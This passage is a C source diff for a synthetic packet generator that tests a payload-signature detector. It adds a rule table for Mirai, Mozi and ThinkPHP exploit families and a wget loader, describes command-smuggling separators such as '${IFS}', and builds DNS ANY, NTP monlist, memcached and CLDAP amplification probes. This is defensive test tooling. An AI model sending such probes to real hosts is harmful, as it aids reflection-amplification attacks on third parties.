@@ -19,6 +19,42 @@
  * length carried in the expectation, again taken from the chosen values
  * (an edge kind that rewrites a length field records the value it wrote).
  *
+ * Payload signatures (the default rules, lib/sig/rules/default.rules):
+ *   - every payload template declares, where it is written, the rules it
+ *     matches, each as [lo, hi): with hi payload bytes scanned the rule
+ *     matches, with fewer than lo it cannot (sigm_t).  The truth never
+ *     reads the bytes: a packet counts under a declared rule when the
+ *     rule's protocol and destination-port filter (sig_rules[], the design
+ *     table) accept it and its scanned length reaches hi.  Frames that cut a
+ *     payload (capture length, short IP length) keep a length outside every
+ *     declared [lo, hi) (pick_keep()), checked when the packet is counted.
+ *   - every declared match ends within the first SIG_WITHIN (256) payload
+ *     bytes, so any sig_payload_max from 256 on gives the same matches; the
+ *     truth's scanned_bytes assumes the default, 1024.
+ *   - the scanned payload follows the design: the IP packet ends at
+ *     min(IP length as written, captured bytes); the payload starts after
+ *     the TCP header (data offset as written) or the 8-byte UDP header;
+ *     non-first fragments and truncated L4 headers have none
+ *     (truth_payload()).
+ *   - templates (UDP): DNS ANY IN (1002), version.bind TXT CH (1003), a
+ *     random label's A (none); NTP mode 7 MON_GETLIST_1 (1004), mode 3 of 48
+ *     bytes (1005); SSDP M-SEARCH (1006); SIP OPTIONS (1001); memcached
+ *     stats/get/gets (1007); CLDAP rootDSE (1008); WS-Discovery Probe
+ *     (1009); SNMP public Get/GetNext/GetBulk (1010); NBSTAT "*" (1011);
+ *     chargen and random bytes (none; random bytes only ever go to ports
+ *     no UDP rule filters on).  TCP (the payload share): HTTP exploit
+ *     requests 2001-2006 with or without a wget/curl URL (2007, caseless,
+ *     separators space, tab, '+', "%20", "${IFS}"), loaders (2007 alone)
+ *     and decoys (near misses of every rule: nothing).  Filler that no
+ *     rule can match (high bit set) pads TCP payloads and UDP tails.
+ *   - the payload share (--payload-share, default 1.5 % of the frames
+ *     other than edge cases): PSH|ACK HTTP requests (65 %, 15 % of them
+ *     IPv6), rich UDP probes (35 %, 35 % IPv6), 15 % of the probes to a port
+ *     outside their rule's filter, exploits sent off their rule's ports
+ *     too; 8 % cut by the capture inside the payload, 8 % with an IP length
+ *     ending inside the payload (the rest stays in the frame, unscanned).
+ *     None has SYN set: no fingerprint applies.
+ *
  * Only libc and libm are used.  Same seed and options => identical bytes.
  */
 #ifndef _GNU_SOURCE
@@ -158,6 +194,15 @@ static void rfill(rng_t *r, uint8_t *p, size_t n)
     if (n) { uint64_t x = rnext(r); memcpy(p, &x, n); }
 }
 
+/* random filler that no default rule can match: every byte has its high bit
+ * set, and each rule that could meet such filler needs ASCII bytes there
+ * (TCP payloads, and tails after a UDP template's matching bytes) */
+static void rfill_hi(rng_t *r, uint8_t *p, size_t n)
+{
+    rfill(r, p, n);
+    for (size_t i = 0; i < n; i++) p[i] |= 0x80;
+}
+
 typedef struct { uint32_t v, w; } wv_t;
 #define WPICK(r, tab) wpick((r), (tab), sizeof(tab) / sizeof((tab)[0]))
 static uint32_t wpick(rng_t *r, const wv_t *t, size_t n)
@@ -170,6 +215,118 @@ static uint32_t wpick(rng_t *r, const wv_t *t, size_t n)
         x -= t[i].w;
     }
     return t[n - 1].v;
+}
+
+/* ------------------------------------------------------------------------ */
+/* payload signatures: the default rule set's filters (lib/sig/rules/         */
+/* default.rules, as tabled in the design) and what a payload declares       */
+
+#define SIG_PAYLOAD_MAX 1024u   /* darkcap's default sig_payload_max: bytes scanned per payload */
+#define SIG_WITHIN 256u         /* every declared match ends within this many payload bytes */
+#define SIG_ANN_MAX 4
+
+typedef struct {
+    uint16_t id;
+    uint8_t proto;              /* 6 or 17 */
+    uint8_t nports;             /* 0 = any port */
+    uint16_t port[2];
+    const char *name, *family;
+} sigrule_t;
+
+static const sigrule_t sig_rules[] = {      /* ascending id: the index order is the id order */
+    {1001, 17, 2, {5060, 5061}, "sip-options", "sip-scan"},
+    {1002, 17, 1, {53, 0}, "dns-any", "dns-amp"},
+    {1003, 17, 1, {53, 0}, "dns-version-bind", "dns-recon"},
+    {1004, 17, 1, {123, 0}, "ntp-monlist", "ntp-amp"},
+    {1005, 17, 1, {123, 0}, "ntp-client", "ntp-scan"},
+    {1006, 17, 1, {1900, 0}, "ssdp-msearch", "ssdp-amp"},
+    {1007, 17, 1, {11211, 0}, "memcached-stats", "memcached-amp"},
+    {1008, 17, 1, {389, 0}, "cldap-rootdse", "cldap-amp"},
+    {1009, 17, 1, {3702, 0}, "wsd-probe", "wsd-amp"},
+    {1010, 17, 1, {161, 0}, "snmp-public", "snmp-scan"},
+    {1011, 17, 1, {137, 0}, "netbios-nbstat", "netbios-scan"},
+    {2001, 6, 1, {37215, 0}, "huawei-hg532", "mirai-exploit"},
+    {2002, 6, 1, {52869, 0}, "realtek-miniigd", "mirai-exploit"},
+    {2003, 6, 0, {0, 0}, "jaws-shell", "mirai-exploit"},
+    {2004, 6, 2, {80, 8080}, "gpon-diag", "mirai-exploit"},
+    {2005, 6, 0, {0, 0}, "thinkphp-rce", "botnet-exploit"},
+    {2006, 6, 0, {0, 0}, "netgear-setup-cgi", "mozi-exploit"},
+    {2007, 6, 0, {0, 0}, "loader-wget", "iot-downloader"},
+};
+#define SIG_N (sizeof(sig_rules) / sizeof(sig_rules[0]))
+
+static int sig_index(uint16_t id)
+{
+    for (size_t i = 0; i < SIG_N; i++)
+        if (sig_rules[i].id == id) return (int)i;
+    die_internal("signature id");
+}
+
+/* the rule's protocol and destination-port filter accept the packet */
+static bool sig_accepts(int idx, uint8_t proto, uint16_t dport)
+{
+    const sigrule_t *s = &sig_rules[idx];
+    if (s->proto != proto) return false;
+    if (!s->nports) return true;
+    for (int i = 0; i < s->nports; i++)
+        if (s->port[i] == dport) return true;
+    return false;
+}
+
+/* a UDP port some UDP rule filters on */
+static bool udp_rule_port(uint16_t p)
+{
+    for (size_t i = 0; i < SIG_N; i++)
+        if (sig_rules[i].proto == 17 && sig_accepts((int)i, 17, p)) return true;
+    return false;
+}
+
+/* What a payload template declares, by construction: rule id matches the
+ * payload when the scanned bytes (from the payload's first byte) reach hi;
+ * it cannot match when they stop before lo (the matching bytes are not all
+ * there); a scan ending in [lo, hi) is never generated (checked when the
+ * packet is counted).  decoy: built to match no rule at all. */
+typedef struct { uint16_t id, lo, hi; } sigm_t;
+typedef struct { uint8_t n, decoy; sigm_t m[SIG_ANN_MAX]; } sigann_t;
+
+static void ann_add(sigann_t *a, uint16_t id, size_t lo, size_t hi)
+{
+    CHECK(a->n < SIG_ANN_MAX && lo >= 1 && lo <= hi && hi <= SIG_WITHIN);
+    (void)sig_index(id);
+    a->m[a->n++] = (sigm_t){id, (uint16_t)lo, (uint16_t)hi};
+}
+
+/* every declared match lies within the n payload bytes written */
+static void ann_check(const sigann_t *a, size_t n)
+{
+    for (int i = 0; i < a->n; i++) CHECK(a->m[i].hi <= n);
+    CHECK(!(a->decoy && a->n));
+}
+
+static bool keep_ok(const sigann_t *a, size_t x)
+{
+    for (int i = 0; i < a->n; i++)
+        if (x >= a->m[i].lo && x < a->m[i].hi) return false;
+    return true;
+}
+
+/* Payload bytes a frame keeps of an n-byte payload (result < n): never
+ * inside a declared [lo, hi); half the time at a boundary (lo - 1: one byte
+ * short of a match, hi: just enough). */
+static size_t pick_keep(rng_t *r, const sigann_t *a, size_t n)
+{
+    size_t cand[2 * SIG_ANN_MAX];
+    uint32_t nc = 0;
+    CHECK(n > 0);
+    for (int i = 0; i < a->n; i++) {
+        cand[nc++] = (size_t)a->m[i].lo - 1;
+        if (a->m[i].hi < n) cand[nc++] = a->m[i].hi;
+    }
+    for (int t = 0; t < 64; t++) {
+        size_t x = nc && rchance(r, 0.5) ? cand[rbelow(r, nc)] : rbelow(r, (uint32_t)n);
+        if (x < n && keep_ok(a, x)) return x;
+    }
+    return 0;
 }
 
 /* ------------------------------------------------------------------------ */
@@ -192,6 +349,12 @@ typedef struct {
     uint8_t ttl;                /* IPv4 TTL / IPv6 hop limit */
     uint8_t tflags;             /* with l4 L4_TCP */
     uint32_t iplen;             /* IPv4 total length / IPv6 payload length + 40 */
+    /* payload (with l4 L4_TCP / L4_UDP): header bytes before it as written
+     * (TCP data offset * 4, or 8), its scanned length once the frame is
+     * final (set by truth_payload()), and what its template declares */
+    uint16_t l4hdr;
+    uint32_t paylen;
+    sigann_t sig;
 } expect_t;
 
 /* ------------------------------------------------------------------------ */
@@ -233,6 +396,8 @@ typedef struct {
     uint16_t sport, dport;
     uint8_t tflags;
     uint32_t seq;
+    uint16_t thl;               /* TCP header bytes written (20 + options) */
+    sigann_t sig;               /* what the payload's template declares */
     size_t l4len;               /* keep l4len/l4 last: reset stops here */
     uint8_t l4[MAX_FRAME];
 } spec_t;
@@ -396,11 +561,12 @@ static void l4_tcp(spec_t *sp, uint16_t sport, uint16_t dport, uint32_t seq, uin
     put16(p + 16, 0);
     put16(p + 18, (flags & 0x20) ? r16(r) : 0);
     if (optlen) memcpy(p + 20, opt, (size_t)optlen);
-    rfill(r, p + 20 + optlen, paylen);
+    rfill_hi(r, p + 20 + optlen, paylen);
     sp->l4len = 20 + (size_t)optlen + paylen;
     sp->next = 6;
     sp->csum = CS_PSEUDO; sp->csum_off = 16;
     sp->l4kind = L4K_TCP; sp->sport = sport; sp->dport = dport; sp->tflags = flags; sp->seq = seq;
+    sp->thl = (uint16_t)(20 + optlen);
 }
 
 static void l4_udp(spec_t *sp, uint16_t sport, uint16_t dport, const uint8_t *pay, size_t paylen)
@@ -494,6 +660,8 @@ static void truth_from_spec(expect_t *e, const spec_t *sp)
         e->sport = sp->sport;
         e->dport = sp->dport;
         e->tflags = sp->tflags;
+        e->l4hdr = sp->thl;
+        e->sig = sp->sig;
         truth_tcp_flags(e, sp->tflags);
         if (sp->ver == 4 && e->syn) {
             uint32_t dst = sp->d4, seq = sp->seq;
@@ -507,6 +675,8 @@ static void truth_from_spec(expect_t *e, const spec_t *sp)
         e->l4 = L4_UDP;
         e->sport = sp->sport;
         e->dport = sp->dport;
+        e->l4hdr = 8;
+        e->sig = sp->sig;
     } else if (proto == (sp->ver == 4 ? 1 : 58)) {
         /* the generator writes every ICMP message whole (8 bytes or more) */
         CHECK(sp->l4kind == L4K_ICMP && sp->l4len >= 8);
@@ -516,6 +686,23 @@ static void truth_from_spec(expect_t *e, const spec_t *sp)
     } else {
         CHECK(sp->l4kind == L4K_RAW || sp->l4kind == L4K_ICMP);
     }
+}
+
+/* The payload's scanned length, once the frame is final: the IP packet
+ * ends at min(IP length as written (e->iplen), captured bytes); the payload
+ * starts after the TCP/UDP header as written.  l3/l4 are where the builder
+ * put the headers, len is what it kept of the frame. */
+static void truth_payload(expect_t *e, size_t l3, size_t l4, size_t len)
+{
+    e->paylen = 0;
+    if ((e->cat != CAT_V4 && e->cat != CAT_V6) || e->frag || (e->l4 != L4_TCP && e->l4 != L4_UDP)) {
+        memset(&e->sig, 0, sizeof(e->sig));
+        return;
+    }
+    if (e->l4 == L4_TCP && e->l4hdr < 20) return;     /* data offset < 5: no payload */
+    size_t end = l3 + e->iplen, start = l4 + e->l4hdr;
+    if (end > len) end = len;
+    if (end > start) e->paylen = (uint32_t)(end - start);
 }
 
 /* ------------------------------------------------------------------------ */
@@ -694,6 +881,8 @@ typedef struct {
     spec_t sp;              /* main packet */
     spec_t inner;           /* inner packet for tunnels / ICMP quotes */
     bool no_jumbo;          /* --no-jumbo: no UDP frames over 1514 bytes */
+    double payload_share;   /* --payload-share */
+    uint64_t pay_cut, pay_short;    /* payload share frames cut by the capture / with a short IP length */
     uint8_t tmp[MAX_FRAME];
 } gen_t;
 
@@ -890,23 +1079,104 @@ static void fill_v4_backscatter(gen_t *g, const src_t *s)
     l4_tcp(&g->sp, sport, dport, seq, ack, flags, win, opt, optlen, 0, r);
 }
 
-/* ---- UDP payloads ---- */
+/* ---- payload builder (bytes plus the declarations of what they match) ---- */
+
+typedef struct {
+    uint8_t *p;
+    size_t n, cap;
+    sigann_t a;                 /* offsets relative to p */
+} pc_t;
+
+static void pc_init(pc_t *c, uint8_t *buf, size_t cap)
+{
+    c->p = buf;
+    c->n = 0;
+    c->cap = cap;
+    memset(&c->a, 0, sizeof(c->a));
+}
+
+static void pc_mem(pc_t *c, const void *s, size_t l)
+{
+    CHECK(c->n + l <= c->cap);
+    memmove(c->p + c->n, s, l);
+    c->n += l;
+}
+
+static void pc_put(pc_t *c, const char *s) { pc_mem(c, s, strlen(s)); }
+
+static void pc_fmt(pc_t *c, const char *fmt, ...) __attribute__((format(printf, 2, 3)));
+static void pc_fmt(pc_t *c, const char *fmt, ...)
+{
+    va_list ap;
+    va_start(ap, fmt);
+    int k = vsnprintf((char *)c->p + c->n, c->cap - c->n, fmt, ap);
+    va_end(ap);
+    CHECK(k >= 0 && (size_t)k < c->cap - c->n);
+    c->n += (size_t)k;
+}
+
+/* rule id matches once bytes [0, hi) of this piece are scanned, not before lo */
+static void pc_mark(pc_t *c, uint16_t id, size_t lo, size_t hi)
+{
+    CHECK(c->a.n < SIG_ANN_MAX && lo >= 1 && lo <= hi && hi <= 65535);
+    c->a.m[c->a.n++] = (sigm_t){id, (uint16_t)lo, (uint16_t)hi};
+}
+
+/* append piece s, its declarations shifted */
+static void pc_cat(pc_t *c, const pc_t *s)
+{
+    size_t off = c->n;
+    pc_mem(c, s->p, s->n);
+    for (int i = 0; i < s->a.n; i++) pc_mark(c, s->a.m[i].id, s->a.m[i].lo + off, s->a.m[i].hi + off);
+    c->a.decoy |= s->a.decoy;
+}
+
+/* the finished payload's declarations (each checked against SIG_WITHIN) */
+static void pc_done(const pc_t *c, sigann_t *a)
+{
+    memset(a, 0, sizeof(*a));
+    for (int i = 0; i < c->a.n; i++) ann_add(a, c->a.m[i].id, c->a.m[i].lo, c->a.m[i].hi);
+    a->decoy = c->a.decoy;
+    ann_check(a, c->n);
+}
+
+/* w in a letter case: as written (1 - pvar of the time), else upper, lower,
+ * capitalised or mixed; only for rules that are caseless there */
+static void pc_case(rng_t *r, pc_t *c, const char *w, double pvar)
+{
+    uint32_t style = rchance(r, pvar) ? rrange(r, 1, 4) : 0;
+    for (size_t i = 0; w[i]; i++) {
+        char ch = w[i];
+        bool up = style == 1 || (style == 3 && i == 0) || (style == 4 && rchance(r, 0.5));
+        bool lo = style == 2 || (style == 3 && i > 0) || (style == 4 && !up);
+        if (up && ch >= 'a' && ch <= 'z') ch = (char)(ch - 32);
+        if (lo && ch >= 'A' && ch <= 'Z') ch = (char)(ch + 32);
+        pc_mem(c, &ch, 1);
+    }
+}
+
+static void shuffle_str(rng_t *r, const char **v, uint32_t n)
+{
+    for (uint32_t i = n; i > 1; i--) {
+        uint32_t j = rbelow(r, i);
+        const char *t = v[i - 1]; v[i - 1] = v[j]; v[j] = t;
+    }
+}
+
+/* ---- UDP payloads ----
+ *
+ * Each template declares the default rules it matches (the table in the
+ * header comment).  rich: the payload share's variants (letter case where a
+ * rule is caseless, other versions, field values and header orders) and
+ * decoys (near misses that match nothing); the base mix uses the plain
+ * templates. */
 
 static const char ssdp_msearch[] =
     "M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nMAN: \"ssdp:discover\"\r\nMX: 1\r\nST: ssdp:all\r\n\r\n";
-static const char sip_options[] =
-    "OPTIONS sip:nm SIP/2.0\r\nVia: SIP/2.0/UDP nm;branch=foo;rport\r\nMax-Forwards: 70\r\n"
+static const char sip_rest[] =
+    "Via: SIP/2.0/UDP nm;branch=foo;rport\r\nMax-Forwards: 70\r\n"
     "To: <sip:nm@nm>\r\nFrom: <sip:nm@nm>;tag=root\r\nCall-ID: 50000\r\nCSeq: 42 OPTIONS\r\n"
     "Contact: <sip:nm@nm>\r\nAccept: application/sdp\r\nContent-Length: 0\r\n\r\n";
-static const char wsd_probe[] =
-    "<?xml version=\"1.0\" encoding=\"utf-8\"?>"
-    "<soap:Envelope xmlns:soap=\"http://www.w3.org/2003/05/soap-envelope\" "
-    "xmlns:wsa=\"http://schemas.xmlsoap.org/ws/2004/08/addressing\" "
-    "xmlns:wsd=\"http://schemas.xmlsoap.org/ws/2005/04/discovery\">"
-    "<soap:Header><wsa:To>urn:schemas-xmlsoap-org:ws:2005:04:discovery</wsa:To>"
-    "<wsa:Action>http://schemas.xmlsoap.org/ws/2005/04/discovery/Probe</wsa:Action>"
-    "<wsa:MessageID>urn:uuid:ce04dad0-5d2c-4026-9146-1aabfc1e4111</wsa:MessageID></soap:Header>"
-    "<soap:Body><wsd:Probe/></soap:Body></soap:Envelope>";
 static const uint8_t snmp_get[] = {
     0x30, 0x29, 0x02, 0x01, 0x01, 0x04, 0x06, 'p', 'u', 'b', 'l', 'i', 'c',
     0xa0, 0x1c, 0x02, 0x04, 0x12, 0x34, 0x56, 0x78, 0x02, 0x01, 0x00, 0x02, 0x01, 0x00,
@@ -921,43 +1191,304 @@ static const uint8_t nbstat[] = {
     'A', 'A', 'A', 'A', 'A', 'A', 'A', 'A', 'A', 'A', 'A', 'A', 'A', 'A', 'A', 'A',
     0x00, 0x00, 0x21, 0x00, 0x01};
 
-static size_t dns_query(rng_t *r, uint8_t *p)
+/* DNS query: ANY IN for a few names (1002), version.bind TXT CHAOS (1003),
+ * a random label's A record (none).  Decoys: a response, two questions,
+ * opcode status, ANY in class CHAOS, version.bind TXT in class IN. */
+static void dns_query(rng_t *r, pc_t *c, bool rich)
 {
     static const char *const names[] = {"version.bind", "example.com", "isc.org", "google.com", "", "ripe.net"};
-    size_t o = 0;
-    put16(p, r16(r));
-    put16(p + 2, 0x0100);                       /* RD */
-    put16(p + 4, 1); put16(p + 6, 0); put16(p + 8, 0);
-    put16(p + 10, rchance(r, 0.3) ? 1 : 0);     /* EDNS0 OPT */
-    o = 12;
+    uint8_t h[12];
+    uint16_t flags = 0x0100, qd = 1, qtype = 255, qclass = 1;   /* RD */
+    put16(h, r16(r));
+    bool edns = rchance(r, 0.3);
     uint32_t ni = rbelow(r, 7);
-    uint16_t qtype = 255, qclass = 1;
-    if (ni == 6) {                              /* random label */
+    int decoy = 0;
+    if (ni == 6) qtype = 1;
+    else if (ni == 0) { qtype = 16; qclass = 3; }
+    if (rich && ni != 6 && rchance(r, 0.3)) {
+        decoy = ni == 0 ? 4 : (int)rrange(r, 1, 4);
+        if (decoy == 1) flags = 0x8180;                 /* a response */
+        else if (decoy == 2) qd = 2;
+        else if (decoy == 3) flags = 0x1100;            /* opcode 2 (status) */
+        else qclass = ni == 0 ? 1 : 3;                  /* the other class */
+    }
+    put16(h + 2, flags); put16(h + 4, qd); put16(h + 6, 0); put16(h + 8, 0); put16(h + 10, edns);
+    pc_mem(c, h, 12);
+    size_t qs = c->n;
+    if (ni == 6) {                                      /* random label */
+        uint8_t l[16];
         uint32_t n = rrange(r, 4, 12);
-        p[o++] = (uint8_t)n;
-        for (uint32_t i = 0; i < n; i++) p[o++] = (uint8_t)('a' + rbelow(r, 26));
-        p[o++] = 3; memcpy(p + o, "com", 3); o += 3;
-        qtype = 1;
+        l[0] = (uint8_t)n;
+        for (uint32_t i = 0; i < n; i++) l[1 + i] = (uint8_t)('a' + rbelow(r, 26));
+        pc_mem(c, l, n + 1);
+        pc_mem(c, "\003com", 4);
     } else {
         const char *nm = names[ni];
-        if (ni == 0) { qtype = 16; qclass = 3; }
         while (*nm) {
             const char *dot = strchr(nm, '.');
             size_t l = dot ? (size_t)(dot - nm) : strlen(nm);
-            p[o++] = (uint8_t)l;
-            memcpy(p + o, nm, l);
-            o += l;
+            uint8_t lb = (uint8_t)l;
+            pc_mem(c, &lb, 1);
+            pc_mem(c, nm, l);
             nm += l + (dot ? 1 : 0);
         }
     }
-    p[o++] = 0;
-    put16(p + o, qtype); put16(p + o + 2, qclass); o += 4;
-    if (p[11]) {
+    uint8_t q[5] = {0};
+    put16(q + 1, qtype); put16(q + 3, qclass);
+    pc_mem(c, q, 5);
+    size_t qend = c->n;
+    if (qd == 2) pc_mem(c, c->p + qs, qend - qs);
+    if (edns) {
         static const uint8_t opt[11] = {0, 0, 41, 0x10, 0x00, 0, 0, 0, 0, 0, 0};
-        memcpy(p + o, opt, 11);
-        o += 11;
+        pc_mem(c, opt, 11);
     }
-    return o;
+    if (decoy || ni == 6) c->a.decoy = 1;
+    else pc_mark(c, ni == 0 ? 1003 : 1002, qend, c->n);
+}
+
+/* NTP: mode 3 client, 48 bytes (1005); mode 7 MON_GETLIST_1, 8 or 48 bytes
+ * (1004).  Rich: versions 1-4 and leap bits, a transmit timestamp, mode 7
+ * versions and implementations.  Decoys: 40-byte mode 3, version 0 or 5,
+ * mode 4, another request code, implementation 0. */
+static void ntp_req(rng_t *r, pc_t *c, bool rich)
+{
+    uint8_t b[48];
+    int decoy = 0;
+    memset(b, 0, sizeof(b));
+    if (rchance(r, 0.7)) {
+        static const uint8_t vn[4] = {0x0b, 0x13, 0x1b, 0x23};
+        size_t n = 48;
+        b[0] = 0x1b;
+        if (rich) {
+            b[0] = (uint8_t)(vn[rbelow(r, 4)] | rbelow(r, 4) << 6);
+            rfill(r, b + 40, 8);
+            if (rchance(r, 0.25)) {
+                decoy = (int)rrange(r, 1, 3);
+                if (decoy == 1) n = 40;
+                else if (decoy == 2) b[0] = (uint8_t)((b[0] & 0xc0) | (rchance(r, 0.5) ? 0x03 : 0x2b));
+                else b[0] = (uint8_t)((b[0] & 0xf8) | 4);
+            }
+        }
+        pc_mem(c, b, n);
+        if (decoy) c->a.decoy = 1;
+        else pc_mark(c, 1005, 48, 48);
+        return;
+    }
+    static const uint8_t m7[3] = {0x17, 0x1f, 0x27};
+    b[0] = 0x17; b[2] = 0x03; b[3] = 0x2a;
+    if (rich) {
+        b[0] = m7[rbelow(r, 3)];
+        b[2] = (uint8_t)rrange(r, 2, 3);
+        if (rchance(r, 0.25)) {
+            decoy = 1;
+            if (rchance(r, 0.5)) b[3] = 0x14; else b[2] = 0;
+        }
+    }
+    pc_mem(c, b, rchance(r, 0.5) ? 8 : 48);
+    if (decoy) c->a.decoy = 1;
+    else pc_mark(c, 1004, 4, 8);
+}
+
+/* SSDP M-SEARCH (1006); rich: header order, MX, ST; decoy: NOTIFY */
+static void ssdp_req(rng_t *r, pc_t *c, bool rich)
+{
+    static const char *const st[] = {"ssdp:all", "upnp:rootdevice", "urn:dial-multiscreen-org:service:dial:1",
+                                     "urn:schemas-upnp-org:device:InternetGatewayDevice:1"};
+    if (!rich) {
+        pc_put(c, ssdp_msearch);
+        pc_mark(c, 1006, 19, 21);
+        return;
+    }
+    if (rchance(r, 0.15)) {
+        pc_put(c, "NOTIFY * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nNT: upnp:rootdevice\r\nNTS: ssdp:alive\r\n"
+                  "LOCATION: http://192.168.1.1:5000/rootDesc.xml\r\n\r\n");
+        c->a.decoy = 1;
+        return;
+    }
+    char mx[16], sth[80];
+    snprintf(mx, sizeof(mx), "MX: %u", rrange(r, 1, 5));
+    snprintf(sth, sizeof(sth), "ST: %s", st[rbelow(r, 4)]);
+    const char *h[4] = {"HOST: 239.255.255.250:1900", "MAN: \"ssdp:discover\"", mx, sth};
+    shuffle_str(r, h, 4);
+    pc_put(c, "M-SEARCH * HTTP/1.1\r\n");
+    pc_mark(c, 1006, 19, 21);
+    for (int i = 0; i < 4; i++) pc_fmt(c, "%s\r\n", h[i]);
+    pc_put(c, "\r\n");
+}
+
+/* SIP OPTIONS (1001, method caseless); rich: method case, target, user
+ * agent; decoys: REGISTER, INVITE */
+static void sip_req(rng_t *r, pc_t *c, bool rich)
+{
+    static const char *const ua[] = {"friendly-scanner", "sipsak 0.9.6", "sipcli/v1.8", "pplsip", "VaxSIPUserAgent/3.1"};
+    const char *method = "OPTIONS";
+    bool decoy = rich && rchance(r, 0.15);
+    if (decoy) method = rchance(r, 0.5) ? "REGISTER" : "INVITE";
+    if (rich && !decoy) pc_case(r, c, method, 0.5);
+    else pc_put(c, method);
+    pc_put(c, " sip:");
+    size_t lo = c->n;
+    if (rich) pc_fmt(c, "%u@%u.%u.%u.%u", rrange(r, 100, 9999), rrange(r, 1, 223), rbelow(r, 256), rbelow(r, 256),
+                     rrange(r, 1, 254));
+    else pc_put(c, "nm");
+    pc_put(c, " SIP/2.0\r\n");
+    if (decoy) c->a.decoy = 1;
+    else pc_mark(c, 1001, lo, c->n);
+    if (rich) pc_fmt(c, "User-Agent: %s\r\n", ua[rbelow(r, 5)]);
+    pc_put(c, sip_rest);
+}
+
+/* memcached over UDP: frame header then stats (1007); rich: stats
+ * subcommands, get, gets; decoy: version */
+static void memc_req(rng_t *r, pc_t *c, bool rich)
+{
+    static const char *const sub[] = {" items", " slabs", " settings"};
+    uint8_t h[8] = {0, 1, 0, 0, 0, 1, 0, 0};
+    put16(h, r16(r));
+    pc_mem(c, h, 8);
+    uint32_t k = rich ? rbelow(r, 6) : 0;
+    size_t lo;
+    switch (k) {
+    case 1: pc_put(c, "stats"); lo = c->n; pc_put(c, sub[rbelow(r, 3)]); break;
+    case 2: pc_put(c, "get "); lo = c->n; pc_fmt(c, "k%u", rbelow(r, 100000)); break;
+    case 3: pc_put(c, "gets "); lo = c->n; pc_fmt(c, "k%u", rbelow(r, 100000)); break;
+    case 4: pc_put(c, "version\r\n"); c->a.decoy = 1; return;
+    default: pc_put(c, "stats"); lo = c->n; break;
+    }
+    pc_put(c, "\r\n");
+    pc_mark(c, 1007, lo, c->n);
+}
+
+/* SNMP GetRequest, community public (1010); rich: v1/v2c, GetNext,
+ * GetBulk; decoys: community secret, SetRequest, version 3 */
+static void snmp_req(rng_t *r, pc_t *c, bool rich)
+{
+    static const uint8_t pdu[3] = {0xa0, 0xa1, 0xa5};
+    uint8_t b[sizeof(snmp_get)];
+    bool decoy = false;
+    memcpy(b, snmp_get, sizeof(b));
+    put32(b + 17, r32(r));
+    if (rich) {
+        b[4] = (uint8_t)rbelow(r, 2);
+        b[13] = pdu[rbelow(r, b[4] ? 3 : 2)];
+        if (rchance(r, 0.25)) {
+            decoy = true;
+            uint32_t k = rbelow(r, 3);
+            if (k == 0) memcpy(b + 7, "secret", 6);
+            else if (k == 1) b[13] = 0xa3;
+            else b[4] = 3;
+        }
+    }
+    pc_mem(c, b, sizeof(b));
+    if (decoy) c->a.decoy = 1;
+    else pc_mark(c, 1010, 14, sizeof(b));
+}
+
+/* CLDAP rootDSE search (1008); rich: message id; decoy: scope subtree */
+static void cldap_req(rng_t *r, pc_t *c, bool rich)
+{
+    uint8_t b[sizeof(cldap_search)];
+    bool decoy = false;
+    memcpy(b, cldap_search, sizeof(b));
+    if (rich) {
+        b[4] = (uint8_t)rrange(r, 1, 127);
+        if (rchance(r, 0.2)) { b[11] = 2; decoy = true; }
+    }
+    pc_mem(c, b, sizeof(b));
+    if (decoy) c->a.decoy = 1;
+    else pc_mark(c, 1008, 12, sizeof(b));
+}
+
+/* WS-Discovery Probe (1009), the element within the first 200 bytes; rich:
+ * namespace prefix (or none), Types; decoys: "<:/>", Resolve */
+static void wsd_req(rng_t *r, pc_t *c, bool rich)
+{
+    static const char *const pfx[] = {"wsd", "d", "dn", ""};
+    static const char ns[] = "http://schemas.xmlsoap.org/ws/2005/04/discovery";
+    const char *p = rich ? pfx[rbelow(r, 4)] : "wsd";
+    const char *colon = *p ? ":" : "";
+    if (rich && rchance(r, 0.15)) {
+        if (rchance(r, 0.5)) pc_put(c, "<:/>");
+        else pc_fmt(c, "<soap:Envelope xmlns:soap=\"http://www.w3.org/2003/05/soap-envelope\" xmlns:wsd=\"%s\">"
+                       "<soap:Body><wsd:Resolve><wsd:Address>urn:uuid:%08x</wsd:Address></wsd:Resolve>"
+                       "</soap:Body></soap:Envelope>", ns, r32(r));
+        c->a.decoy = 1;
+        return;
+    }
+    pc_put(c, "<?xml version=\"1.0\" encoding=\"utf-8\"?>"
+              "<soap:Envelope xmlns:soap=\"http://www.w3.org/2003/05/soap-envelope\"");
+    if (*p) pc_fmt(c, " xmlns:%s=\"%s\"", p, ns);
+    pc_fmt(c, "><soap:Body><%s%sProbe", p, colon);
+    size_t lo = c->n;
+    if (!*p) pc_fmt(c, " xmlns=\"%s\"", ns);
+    if (rich && rchance(r, 0.3)) pc_fmt(c, "><%s%sTypes>NetworkVideoTransmitter</%s%sTypes></%s%sProbe>", p, colon, p, colon,
+                                        p, colon);
+    else pc_put(c, "/>");
+    pc_mark(c, 1009, lo, lo + 1);
+    pc_put(c, "</soap:Body></soap:Envelope>");
+}
+
+/* NetBIOS NBSTAT for "*" (1011); decoy: an NB (0x20) query */
+static void nbstat_req(rng_t *r, pc_t *c, bool rich)
+{
+    uint8_t b[sizeof(nbstat)];
+    bool decoy = false;
+    memcpy(b, nbstat, sizeof(b));
+    put16(b, r16(r));
+    if (rich && rchance(r, 0.2)) { b[47] = 0x20; decoy = true; }
+    pc_mem(c, b, sizeof(b));
+    if (decoy) c->a.decoy = 1;
+    else pc_mark(c, 1011, 48, 50);
+}
+
+enum { U_DNS, U_NTP, U_SSDP, U_SIP, U_MEMC, U_SNMP, U_CLDAP, U_WSD, U_NBSTAT, U_CHARGEN, U_RANDOM, U_KINDS };
+
+/* the template a UDP probe to dport carries; every port some UDP rule
+ * filters on has one, so random bytes only go to other ports */
+static int udp_kind(uint16_t dport)
+{
+    switch (dport) {
+    case 53: return U_DNS;
+    case 123: return U_NTP;
+    case 1900: return U_SSDP;
+    case 5060: case 5061: return U_SIP;
+    case 11211: return U_MEMC;
+    case 161: return U_SNMP;
+    case 389: return U_CLDAP;
+    case 3702: return U_WSD;
+    case 137: return U_NBSTAT;
+    case 19: return U_CHARGEN;
+    default: return U_RANDOM;
+    }
+}
+
+/* a UDP payload of one kind; returns its length (written to buf, at most
+ * 1024 bytes) and its declarations */
